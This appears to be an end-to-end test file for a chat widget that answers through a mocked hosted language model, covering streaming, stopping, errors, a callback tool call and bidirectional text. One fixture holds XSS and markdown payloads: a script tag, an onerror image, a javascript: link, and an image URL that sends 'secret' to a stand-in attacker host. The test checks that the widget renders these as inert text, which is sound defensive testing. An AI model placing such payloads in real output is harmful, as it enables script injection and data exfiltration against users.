/**
 * The chat over a hosted language model: streaming, stopping, faults midway, and malicious replies.
 */
import { startProvider } from "#tests/support/assistant.ts";
import { startServer } from "#tests/support/built-server.ts";
import { chatWords, openChat } from "#tests/support/chat.ts";
import { expect, testAgainst } from "#tests/support/test.ts";
import { desktop } from "#tests/support/visit.ts";

const long = Array.from({ length: 60 }, (_, index) => `Sentence number ${index + 1} of a long answer.`).join(" ");
const hostile = [
  "<img src=https://evil.example/a.png onerror=\"document.title='owned'\"> <script>document.title='owned'</script>",
  "![picture](https://evil.example/?q=secret) [first](https://evil.example/) [second](javascript:document.title='owned')",
  "[third](//evil.example/x) [fourth](data:text/html,x) [fifth](/about) <style>*{display:none}</style>",
].join("\n\n");

const test = testAgainst(async () => {
  const { mock, settings } = await startProvider();
  // Long enough for all steps of a test on a busy machine.
  mock.onMessage("at leisure", { content: long }, { latency: 200, chunkSize: 30 });
  mock.onMessage("dies", { content: long }, { latency: 40, chunkSize: 30, truncateAfterChunks: 12 });
  mock.onMessage("hostile", { content: hostile });
  mock.onMessage("mixed", {
    content: "نستخدم **Microsoft Azure** و`SQL Server` منذ 2019.\n\n- [خدمات الترحيل](/ar/services/networks)\n- Backup",
  });
  mock.onMessage("call me", {
    toolCalls: [
      {
        name: "request_callback",
        arguments: '{"name":"Sara","phone":"+966551234567","preferred_time":"Sunday","topic":"Azure"}',
      },
    ],
  });
  mock.onMessage("refused", { error: { message: "words of the provider", type: "x" }, status: 401 });
  mock.onMessage(/.*/, { content: "Yes. We do that." });
  const server = await startServer({ env: { TRUST_PROXY: "1", ...settings } });
  const stop = async () => {
    await server.stop();
    await mock.stop();
  };
  return { url: server.url, stop };
});
test.use({ viewport: desktop });

test("the notice names a provider's model as what answers and gets the messages", async ({ page }) => {
  const { panel, words } = await openChat(page, "ar");
  await expect(panel).toContainText(words.notice.hosted);
  await expect(panel).not.toContainText(words.notice.embedded);
  await expect(panel.getByText(words.answeredBy.hosted, { exact: true })).toBeVisible();
});

test("an answer is read from its beginning while it arrives, and followed only by whoever goes to its end", async ({
  page,
}) => {
  const { ask, turns, log, words, panel } = await openChat(page, "en");
  await ask("Tell me at leisure");
  await expect(turns.nth(1)).toContainText("Sentence number 3 ");
  await expect(log).toHaveAttribute("aria-busy", "true");
  await expect(turns.nth(1)).not.toContainText("number 60");
  const distance = () => log.evaluate((one) => one.scrollHeight - one.scrollTop - one.clientHeight);
  await expect(turns.nth(1)).toContainText("Sentence number 20 ");
  await expect(turns.first()).toBeInViewport({ ratio: 1 });
  const latest = panel.getByRole("button", { name: words.latest });
  await expect(latest).toBeVisible();
  await latest.click();
  await expect.poll(distance).toBeLessThan(4);
  await expect(latest).toBeHidden();

  await log.hover();
  await page.mouse.wheel(0, -300);
  await expect(latest).toBeVisible();
  const top = await log.evaluate((one) => one.scrollTop);
  const read = await turns.nth(1).innerText();
  await expect.poll(async () => (await turns.nth(1).innerText()).length).toBeGreaterThan(read.length + 200);
  expect(await log.evaluate((one) => one.scrollTop)).toBe(top);
  await latest.click();
  await expect.poll(distance).toBeLessThan(4);
  await expect(latest).toBeHidden();
  await expect(turns.nth(1)).toContainText("number 60");
  await expect(log).toHaveAttribute("aria-busy", "false");
  await expect.poll(distance).toBeLessThan(4);
});

test("a stopped answer stays in the conversation, and its call is ended", async ({ page }) => {
  const bodies: { messages: { content: string }[] }[] = [];
  page.on("request", (request) => {
    if (request.url().endsWith("/completions")) bodies.push(request.postDataJSON());
  });
  const { ask, stop, turns, input, words, error } = await openChat(page, "en");
  await ask("Tell me at leisure");
  await expect(stop).toBeFocused();
  await expect(turns.nth(1)).toContainText("Sentence number 4 ");
  await stop.press("Enter");
  await expect(stop).toHaveCount(0);
  await expect(input).toBeFocused();
  await expect(turns.nth(1)).toContainText(words.stopped);
  await expect(turns.nth(1)).toContainText("Sentence number 4 ");
  await expect(turns.nth(1)).not.toContainText("number 60");
  await expect(error).toHaveCount(0);
  await ask("Anything else?");
  await expect(turns).toHaveCount(4);
  expect(bodies[1]?.messages).toHaveLength(3);
  expect(bodies[1]?.messages[1]?.content).toContain("Sentence number 4 ");
});

test("stopped before anything came, the question can be asked again", async ({ page }) => {
  const { ask, stop, turns, panel, words, error } = await openChat(page, "en");
  await page.route("**/v1/chat/completions", () => undefined, { times: 1 });
  const call = page.waitForRequest("**/v1/chat/completions");
  await ask("Do you build apps?");
  await call;
  await stop.click();
  await expect(turns).toHaveCount(1);
  await expect(error).toHaveCount(0);
  await panel.getByRole("button", { name: words.again }).click();
  await expect(turns.nth(1)).toContainText("Yes. We do that.");
});

test.describe("a provider that fails", () => {
  test.use({ allowedProblems: [/status of 401/] });

  test("is the notice below what came of an answer, and nothing of its own words", async ({ page }) => {
    const { ask, turns, panel, error, input } = await openChat(page, "en");
    await ask("One that dies");
    await expect(turns.nth(1)).toContainText("Sentence number");
    await expect(error).toContainText("Failed to get response from AI. Please try again.");
    await expect(turns).toHaveCount(2);
    await expect(turns.nth(1)).toContainText("Sentence number");
    await expect(input).toBeEnabled();

    await ask("You are refused");
    await expect(error).toHaveCount(2);
    await expect(error.last()).toContainText("Failed to get response from AI. Please try again.");
    await expect(panel).not.toContainText(/words of the provider|API key/);
  });
});

test("a hostile reply is text: no element, no picture, no link but to our pages", async ({ page }) => {
  const { ask, turns } = await openChat(page, "en");
  const title = await page.title();
  await ask("Something hostile");
  const answer = turns.nth(1).locator(".chat-text");
  await expect(answer).toContainText("<img src=https://evil.example/a.png");
  await expect(answer).toContainText("<script>");
  await expect(answer.locator("img, script, style, iframe, svg, [onerror]")).toHaveCount(0);
  await expect(answer.getByRole("link")).toHaveText(["fifth"]);
  await expect(answer.getByRole("link")).toHaveAttribute("href", "/about");
  await expect(answer).toContainText("first second");
  expect(await page.title()).toBe(title);
});

test("the model's call of the tool fills in the card, and the visitor decides", async ({ page }) => {
  const posts: string[] = [];
  page.on("request", (request) => {
    if (request.url().endsWith("/api/leads")) posts.push(request.method());
  });
  const { ask, panel } = await openChat(page, "en");
  const { words, form } = chatWords("en");
  await ask("Please call me");
  const card = panel.getByRole("form", { name: words.callback.title });
  await expect(card.getByLabel(form.name, { exact: true })).toHaveValue("Sara");
  await expect(card.getByLabel(form.phone, { exact: true })).toHaveValue("+966551234567");
  await expect(card.getByLabel(words.callback.preferredTime, { exact: true })).toHaveValue("Sunday");
  await expect(card.getByLabel(words.callback.topic, { exact: true })).toHaveValue("Azure");
  expect(posts).toEqual([]);
  await expect(panel).not.toContainText(words.callback.filed);
  await card.getByRole("button", { name: words.callback.confirm }).click();
  await expect(panel.getByRole("heading", { name: words.callback.filed })).toBeVisible();
  expect(posts).toEqual(["POST"]);
});

test.describe("text of both directions", () => {
  test.use({ permissions: ["clipboard-read", "clipboard-write"] });

  test("mixes without disturbing each other, and is copied as it is read", async ({ page }) => {
    const { ask, turns, panel, words } = await openChat(page, "en");
    await ask("mixed");
    const answer = turns.nth(1).locator(".chat-text");
    await expect(answer.locator("p").first()).toHaveCSS("direction", "rtl");
    await expect(answer.locator("li").nth(0)).toHaveCSS("direction", "rtl");
    await expect(answer.locator("li").nth(1)).toHaveCSS("direction", "ltr");
    await expect(answer.locator("code")).toHaveCSS("direction", "ltr");
    await panel.getByRole("button", { name: words.copy }).click();
    await expect(panel.getByText(words.copied)).toBeVisible();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
      "نستخدم Microsoft Azure وSQL Server منذ 2019.\nخدمات الترحيل\nBackup",
    );
    await ask("سؤال عن ERP mixed");
    await expect(turns.nth(2).locator("p")).toHaveCSS("direction", "rtl");
  });
});
